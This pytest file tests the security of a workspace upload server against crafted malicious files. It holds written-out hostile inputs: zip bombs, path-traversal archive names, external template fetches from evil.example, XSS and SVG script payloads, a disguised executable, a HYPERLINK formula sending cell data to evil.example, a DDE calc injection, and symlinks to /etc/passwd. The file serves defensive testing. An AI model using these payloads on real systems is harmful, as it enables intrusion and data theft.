"""Files made to do harm, sent to the server as a browser sends them: refused with a sentence, or made harmless."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from ui_server import client, screen

from assistant.settings import Settings
from assistant.steps import jobs
from assistant.steps.progress import Silent
from assistant.ui.seat import Server
from assistant.workspace import Workspace

SETTINGS = Settings(ocr=False, page_numbers=False, workers=0, file_mb=1)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


def word(*paragraphs: str, template: str = "", picture: str = "") -> bytes:
    made = docx.Document()
    for text in paragraphs:
        made.add_paragraph(text)
    for kind, target in (("attachedTemplate", template), ("image", picture)):
        if target:
            made.part.relate_to(target, f"{RELATIONS}/{kind}", is_external=True)
    held = io.BytesIO()
    made.save(held)
    return held.getvalue()


def zipped(*members: tuple[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return held.getvalue()


def inside_out(levels: int) -> bytes:
    content = zipped(("零.txt", b"0" * (4 << 20)))
    for n in range(levels):
        content = zipped(*((f"{n}-{k}.zip", content) for k in range(8)))
    return content


BIG_PART = (("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b" " * (64 << 20)))
REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "zip bomb": ("炸弹.zip", lambda: zipped(("零.txt", b"0" * (64 << 20))), "压缩炸弹"),
    "zip that climbs out": ("出去.zip", lambda: zipped(("../../etc/cron.d/x", b"x"), ("好.txt", b"y")), "越出文件夹"),
    "zip with a drive": ("盘符.zip", lambda: zipped(("C:\\x.txt", b"x")), "越出文件夹"),
    "bomb in a Word file": ("大.docx", lambda: zipped(*BIG_PART), "炸弹"),
    "template from elsewhere": ("模板.docx", lambda: word("x", template="https://evil.example/t.dotm"), "别处取内容"),
    "picture from elsewhere": ("图.docx", lambda: word("x", picture="\\\\evil.example\\share\\a.png"), "别处取内容"),
    "script in a page": ("页.html", lambda: b"<html><body onload='alert(1)'>x</body></html>", "脚本"),
    "script in a drawing": ("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG"),
    "drawing that says it is a picture": ("图.png", lambda: b"<?xml version='1.0'?><svg><script>1</script></svg>", "SVG"),
    "program with another name": ("总结.docx", lambda: b"MZ" + b"\0" * 200, "程序"),
    "name with a line feed": ("a%0a.txt", lambda: b"x", "控制字符"),
    "name that turns text around": ("a%E2%80%AEcod.txt", lambda: b"x", "控制字符"),
    "absolute name": ("/etc/passwd", lambda: b"x", "普通位置"),
    "Windows name": ("..%5c..%5cx.txt", lambda: b"x", "普通位置"),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_with_a_sentence_and_leaves_nothing(app: Any, server: Server, workspace: str, what: str) -> None:
    place, make, says = REFUSED[what]
    folder = server.data.workspace_folder(workspace)
    before = {p for p in folder.rglob("*") if p.is_file() and not p.name.startswith("zhiping")}
    answer = client(app, "zhang").post(f"/w/{workspace}/upload?place={place}", content=make())
    assert answer.status_code == 422 and says in answer.json()["error"], answer.text
    assert {p for p in folder.rglob("*") if p.is_file() and not p.name.startswith("zhiping")} == before


@pytest.fixture(scope="module")
def own(server: Server) -> str:
    """A workspace that the tests below may fill."""
    entry = server.access.create("另一所学校", server.users.get("zhang"))
    with Workspace(server.data.workspace_folder(entry.id)) as opened:
        opened.set("framework", "bk-audit-2-3")
        opened.set("institution", '{"name": "岚江工学院", "type": "applied", "category": "工科"}')
    return entry.id


def run(server: Server, id: str, kind: str) -> None:
    with Workspace(server.data.workspace_folder(id)) as opened:
        jobs.KINDS[kind](opened, {}, SETTINGS, Silent())


def test_bombs_in_bombs_are_stopped_by_the_reader_with_a_sentence(app: Any, server: Server, own: str) -> None:
    content = inside_out(2)
    assert len(content) < 1 << 20
    answer = client(app, "zhang").post(f"/w/{own}/upload?place=套娃.zip", content=content)
    if answer.status_code == 422:
        assert "炸弹" in answer.json()["error"]
        return
    run(server, own, "read")
    html = screen(client(app, "zhang"), w=own, p="materials")["html"]
    assert "套娃.zip" in html and ("上限" in html or "层" in html)


def test_formulae_in_names_and_cells_come_out_as_text(app: Any, server: Server, own: str, tmp_path: Path) -> None:
    zhang = client(app, "zhang")
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["学院", "实习基地数", "备注"])
    for n in range(6):
        sheet.append([FORMULA, n, "+cmd|' /C calc'!A0"])
    held = io.BytesIO()
    book.save(held)
    prose = "学校建有校外实习基地37个，实践教学体系完整，与企业共建实验实训基地12个，毕业设计题目来自企业的占百分之六十二。"
    sent = {"=1+1 实习基地统计.xlsx": held.getvalue(), "@SUM(A1) 总结.docx": word(FORMULA, prose, prose + "再次。")}
    for place, content in sent.items():
        answer = zhang.post(f"/w/{own}/upload", params={"place": place}, content=content)
        assert answer.status_code == 200, answer.text
    run(server, own, "draft")
    file = tmp_path / "catalogue.xlsx"
    file.write_bytes(zhang.get(f"/w/{own}/file/catalogue.xlsx").content)
    cells = [c for s in openpyxl.load_workbook(file) for row in s.iter_rows() for c in row if c.value is not None]
    assert any("实习基地统计.xlsx" in str(c.value) for c in cells)
    assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "@", "-cmd"))]
    html = screen(zhang, w=own, p="materials")["html"]
    assert "=1+1 实习基地统计.xlsx" in html


def test_markup_in_what_was_uploaded_stays_text_on_every_page(app: Any, server: Server, own: str) -> None:
    zhang = client(app, "zhang")
    mark = "<img src=x onerror=alert(1)>"
    text = f"{mark}学校与企业共建实习基地37个，实践教学学分占总学分的百分之三十二，{{{{constructor}}}}${{1}}。"
    assert zhang.post(f"/w/{own}/upload", params={"place": "标记.docx"}, content=word(text, text + "又及。")).status_code == 200
    run(server, own, "read")
    seen = 0
    for page, args in (("materials", {}), ("mapping", {"words": "实习基地"}), ("indicator", {"code": "2.3"})):
        html = screen(zhang, w=own, p=page, args=args)["html"]
        assert "<img src=x" not in html and "{{" not in html and "${" not in html, page
        seen += "&lt;img src=x" in html
    assert seen


def test_a_link_in_the_folder_leads_nowhere(app: Any, server: Server, own: str) -> None:
    folder = server.data.workspace_folder(own) / "材料"
    folder.mkdir(exist_ok=True)
    (folder / "链接.txt").symlink_to("/etc/passwd")
    (folder / "文件夹").symlink_to("/etc")
    run(server, own, "read")
    with Workspace(server.data.workspace_folder(own)) as opened:
        known = [d for d in opened.documents() if any(p.startswith(("链接", "文件夹")) for p in d.places)]
        assert not any("root:" in p.text for p in opened.passages())
    for document in known:
        answer = client(app, "zhang").get(f"/w/{own}/evidence/{document.id}")
        assert answer.status_code == 404 and b"root:" not in answer.content


def test_what_goes_while_it_is_looked_at_stops_nothing(
    app: Any, server: Server, own: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    glob = Path.glob

    def with_one_just_gone(folder: Path, pattern: str) -> list[Path]:
        gone = [folder / f"{pattern.rstrip('*')}gone"] if pattern.startswith(("zhiping.db", "in-")) else []
        return [*gone, *glob(folder, pattern)]

    monkeypatch.setattr(Path, "glob", with_one_just_gone)
    assert server.last_used()
    sent = client(app, "zhang").post(f"/w/{own}/hand-in", params={"place": "a.txt"}, content="一张表".encode())
    assert sent.status_code == 200, sent.text
